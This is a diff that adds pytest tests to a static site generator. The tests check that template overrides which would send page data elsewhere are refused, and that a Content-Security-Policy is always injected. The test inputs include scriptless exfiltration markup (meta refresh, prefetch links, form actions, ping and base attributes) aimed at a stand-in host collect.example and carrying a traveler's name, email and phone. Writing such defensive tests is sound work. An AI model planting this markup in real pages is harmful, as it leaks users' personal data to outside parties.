@@ -153,3 +153,48 @@ def test_a_failing_draft_override_is_located_by_every_command(ws: Workspace, com
     args = {"followup": ("followup", "content", "--today", "2027-05-11"), "check": ("check", "content"), "build": BUILD_WEB}
     ran = cli(*args[command])
     refused(ran, guard, "content/templates/drafts/thanks.txt:3: error: template error: ")
+
+
+# ---- item 3: a template override cannot send the page away without a script --------------------------------------------
+
+
+def default_template(name: str) -> str:
+    return (REPO / "themes" / "default" / "templates" / name).read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize(
+    ("markup", "needle", "message"),
+    [
+        ('<meta http-equiv="refresh" content="0; url=https://collect.example/?n={{ page.trip.traveler.name|urlencode }}">',
+         "http-equiv", 'template error: the page has <meta http-equiv="refresh">'),
+        ("<META HTTP-EQUIV=Refresh CONTENT='0;URL=//collect.example/'>", "http-equiv", "template error: the page has <meta http-equiv"),
+        ('<link rel="prefetch" href="https://collect.example/{{ page.trip.traveler.email }}">', "rel=", "template error: a <link rel"),
+        ('<link rel="dns-prefetch preload" href="\\\\collect.example/x">', "rel=", "template error: a <link rel"),
+        ('<a href="#" ping="https://collect.example/p">Network</a>', "ping", "template error: a <a> has a ping attribute"),
+        ('<base href="https://collect.example/">', "<base", "template error: the page has a <base> element"),
+        ('<form action="https://collect.example/f"><input name="n" value="{{ page.trip.traveler.phone }}"></form>',
+         "action", "template error: the page has a form with an action"),
+        ('<form><button formaction="https://collect.example/">Send</button></form>', "formaction", "template error: a <button> has a formaction"),
+    ],
+)
+def test_a_page_that_would_send_its_data_away_is_refused(ws: Workspace, markup: str, needle: str, message: str) -> None:
+    lines = default_template("followups.html").splitlines()
+    at = lines.index("{% block main %}") + 1
+    lines.insert(at, markup)
+    ws.write("templates/followups.html", "\n".join(lines) + "\n")
+    guard = Guard(ws)
+    refused(cli(*BUILD_WEB), guard, f"content/templates/followups.html:{at + 1}: error: {message}")
+
+
+def test_a_base_override_without_the_policy_still_gets_it(ws: Workspace) -> None:
+    """A base.html without the Content-Security-Policy (and with an inline script ahead of everything)."""
+    base = default_template("base.html").replace("<head>", "<head>\n<script>document.title = 'ran'</script>")
+    ws.write("templates/base.html", base.replace("Content-Security-Policy", "X-Nothing"))
+    ran = cli(*BUILD_WEB)
+    assert ran.code == 0, ran.output
+    from generator.render.webapp import CONTENT_SECURITY_POLICY
+
+    for page in [ws.output / "index.html", ws.output / "network.html", ws.output / "followups.html"]:
+        html = page.read_text(encoding="utf-8")
+        policy = html.find(f'<meta http-equiv="Content-Security-Policy" content="{CONTENT_SECURITY_POLICY}">')
+        assert 0 <= policy < html.find("<script"), page
